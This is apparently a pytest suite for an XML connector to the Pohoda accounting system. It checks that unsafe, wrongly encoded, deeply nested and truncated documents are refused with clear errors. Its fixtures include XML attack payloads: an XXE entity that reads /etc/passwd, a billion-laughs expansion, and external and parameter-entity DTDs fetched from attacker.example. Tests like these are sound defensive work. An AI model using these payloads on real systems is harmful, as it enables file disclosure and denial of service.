"""The hostile-input corpus: every document we refuse, refused with a clear error and a position.

Each case runs through both readers: the whole-document parser (mServer answers) and the streaming stock
export (``iter_stock_chunks``), where "nothing else lost" means every card before the fault still arrives.
"""

from __future__ import annotations

import io

import pytest

from connectors.pohoda.errors import EncodingError, MalformedXml, TruncatedXml, UnsafeXml, XmlError
from connectors.pohoda.testing import write_stock_export
from connectors.pohoda.xml import iter_stock_chunks, parse_document, parse_response

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rsp:responsePack [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rsp:responsePack xmlns:rsp="http://www.stormware.cz/schema/version_2/response.xsd" version="2.0" id="x"
 state="ok" note="&xxe;"/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE responsePack SYSTEM "http://attacker.example/evil.dtd">
<responsePack/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!-- a comment first, then the declaration -->
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<x/>"""


def _stream(data: bytes, chunk_size: int = 10) -> tuple[list[str], Exception | None]:
    """Codes of every card delivered before the stream stopped, and the error it stopped with."""
    codes: list[str] = []
    try:
        for chunk in iter_stock_chunks(io.BytesIO(data), chunk_size):
            codes.extend(item.code for item in chunk)
    except XmlError as exc:
        return codes, exc
    return codes, None


def _export(count: int, **options: object) -> bytes:
    buffer = io.BytesIO()
    write_stock_export(buffer, count, **options)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "document",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe-file", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_documents_with_a_doctype_are_refused_before_parsing(document: bytes) -> None:
    with pytest.raises(UnsafeXml, match="DOCTYPE") as refused:
        parse_document(document)
    assert refused.value.line is not None
    codes, error = _stream(document)
    assert codes == [] and isinstance(error, UnsafeXml)


def test_xxe_never_reaches_the_local_file() -> None:
    with pytest.raises(UnsafeXml) as refused:
        parse_response(XXE)
    assert "root:" not in str(refused.value)


def test_a_doctype_after_the_first_block_is_still_refused_in_a_stream() -> None:
    padding = b"<!--" + b"x" * 200_000 + b"-->"
    document = b'<?xml version="1.0"?>' + padding + b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"
    assert isinstance(_stream(document)[1], UnsafeXml)


def test_windows_1250_declared_as_utf8_names_the_byte_and_line() -> None:
    document = '<?xml version="1.0" encoding="UTF-8"?>\n<a>\n<b>Žluťoučký kůň</b></a>'.encode("cp1250")
    with pytest.raises(EncodingError, match="not valid UTF-8") as refused:
        parse_document(document)
    assert refused.value.line == 3
    assert refused.value.offset == document.index("Ž".encode("cp1250"))


def test_utf8_declared_as_windows_1250_is_refused_instead_of_read_as_mojibake() -> None:
    document = '<?xml version="1.0" encoding="Windows-1250"?>\n<a>Žluťoučký kůň</a>'.encode()
    with pytest.raises(EncodingError, match="bytes are UTF-8"):
        parse_document(document)


def test_bytes_undefined_in_windows_1250_are_refused_with_their_offset() -> None:
    document = b'<?xml version="1.0" encoding="Windows-1250"?>\n<a>ok\x81</a>'
    with pytest.raises(EncodingError, match="81 are not valid Windows-1250") as refused:
        parse_document(document)
    assert refused.value.offset == document.index(b"\x81")


@pytest.mark.parametrize(
    "document, message",
    [
        (b'<?xml version="1.0" encoding="ISO-8859-2"?><a/>', "iso-8859-2"),
        ("<?xml version='1.0' encoding='UTF-16'?><a/>".encode("utf-16"), "UTF-16"),
    ],
)
def test_encodings_pohoda_does_not_use_are_refused(document: bytes, message: str) -> None:
    with pytest.raises(EncodingError, match=message):
        parse_document(document)


def test_nesting_deeper_than_the_bound_is_refused() -> None:
    with pytest.raises(MalformedXml, match="deeper than 256"):
        parse_document(b"<a>" * 300 + b"</a>" * 300)


def test_a_document_cut_at_any_byte_is_reported_as_truncated() -> None:
    document = '<?xml version="1.0" encoding="Windows-1250"?>\n<a>\n<b>Žluť</b>\n<c x="1">text</c>\n</a>\n'
    data = document.encode("cp1250")
    for end in range(1, len(data) - 2):
        with pytest.raises(TruncatedXml):
            parse_document(data[:end])


def test_a_truncated_document_names_the_position_where_it_ends() -> None:
    data = b'<?xml version="1.0" encoding="Windows-1250"?>\n<a>\n<b>x</b>\n'
    with pytest.raises(TruncatedXml, match="ends before") as refused:
        parse_document(data)
    assert refused.value.line == 4


def test_a_truncated_stock_export_delivers_every_complete_card_then_raises() -> None:
    data = _export(25)
    cut = data[: data.index(b"SKU-0000018")]  # in the middle of card 18
    codes, error = _stream(cut)
    assert codes == [f"SKU-{n:07d}" for n in range(1, 18)]
    assert isinstance(error, TruncatedXml)


def test_invalid_bytes_in_the_middle_of_a_stock_export_stop_it_after_the_cards_before() -> None:
    data = _export(1200)
    position = data.index(b"SKU-0001100")
    corrupted = data[:position] + b"\x98" + data[position + 1 :]
    codes, error = _stream(corrupted, chunk_size=500)
    assert isinstance(error, EncodingError) and error.offset == position
    assert len(codes) >= 1000 and codes == [f"SKU-{n:07d}" for n in range(1, len(codes) + 1)]
    assert "SKU-0001100" not in codes


def test_a_stock_export_with_a_wrong_declaration_delivers_nothing_garbled() -> None:
    data = _export(5).replace(b"encoding='windows-1250'", b"encoding='UTF-8'")
    codes, error = _stream(data)
    assert isinstance(error, EncodingError) and codes == []


def test_a_clean_export_passes_every_check() -> None:
    codes, error = _stream(_export(12))
    assert error is None and len(codes) == 12
